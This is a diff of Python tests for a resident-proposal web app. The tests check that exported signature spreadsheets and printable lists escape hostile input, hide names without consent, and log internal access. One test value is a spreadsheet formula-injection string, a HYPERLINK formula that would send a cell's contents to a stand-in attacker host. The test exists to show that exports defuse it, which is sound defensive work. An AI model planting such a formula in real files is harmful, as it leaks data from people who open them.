@@ -118,3 +118,56 @@ def test_export_names_only_by_consent_in_the_public_version(
     assert names("offentlig") == ["(navnet er ikke offentlig)", "Signer 2"]
     assert names("intern") == ["Signer 1", "Signer 2"]
     assert Proposal.objects.count() == 1
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")'
+
+
+def test_signature_list_defuses_what_residents_typed(client, staff, published):
+    """Issue 11 major 4: every export defuses cells a spreadsheet would run."""
+    signed = sign_input(2, name=HOSTILE_NAME)  # signer 2 agreed to be named
+    services.signature_confirm(
+        signature=services.signature_request(proposal=published, signed=signed)
+    )
+    client.force_login(staff["secretariat"])
+    response = client.get(
+        reverse("proposals_admin:export", args=[published.pk]), {"versjon": "intern"}
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert [c for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    assert sheet.cell(row=3, column=2).value == "'" + HOSTILE_NAME
+    assert "underskrifter-" in response["Content-Disposition"]
+
+
+def test_printable_list_public_and_internal(client, staff, published):
+    for n in (1, 2):  # signer 2 agreed to be named, signer 1 did not
+        signature = services.signature_request(
+            proposal=published, signed=sign_input(n, name=f"<b>Signer {n}</b>")
+        )
+        services.signature_confirm(signature=signature)
+    client.force_login(staff["secretariat"])
+    url = reverse("proposals_admin:print", args=[published.pk])
+
+    public = client.get(url).content.decode()
+    assert "&lt;b&gt;Signer 2&lt;/b&gt;" in public
+    assert "Signer 1" not in public
+    assert "(navnet er ikke offentlig)" in public
+    assert "INTERNT" not in public
+
+    internal = client.get(url, {"versjon": "intern"}).content.decode()
+    assert "INTERNT – ikke offentlig." in internal
+    assert "&lt;b&gt;Signer 1&lt;/b&gt;" in internal
+    assert "<b>Signer" not in internal
+    # Opening the internal list is logged (who, not what).
+    from wagtail.models import ModelLogEntry
+
+    entry = ModelLogEntry.objects.get(action="proposals.signatures_internal")
+    assert entry.user == staff["secretariat"]
+    assert "Signer" not in str(entry.data)
+
+
+@pytest.mark.parametrize(("who", "status"), [("other_unit", 404), ("triage", 200)])
+def test_printable_list_is_for_the_secretariat(client, staff, published, who, status):
+    client.force_login(staff[who])
+    url = reverse("proposals_admin:print", args=[published.pk])
+    assert client.get(url, {"versjon": "intern"}).status_code == status
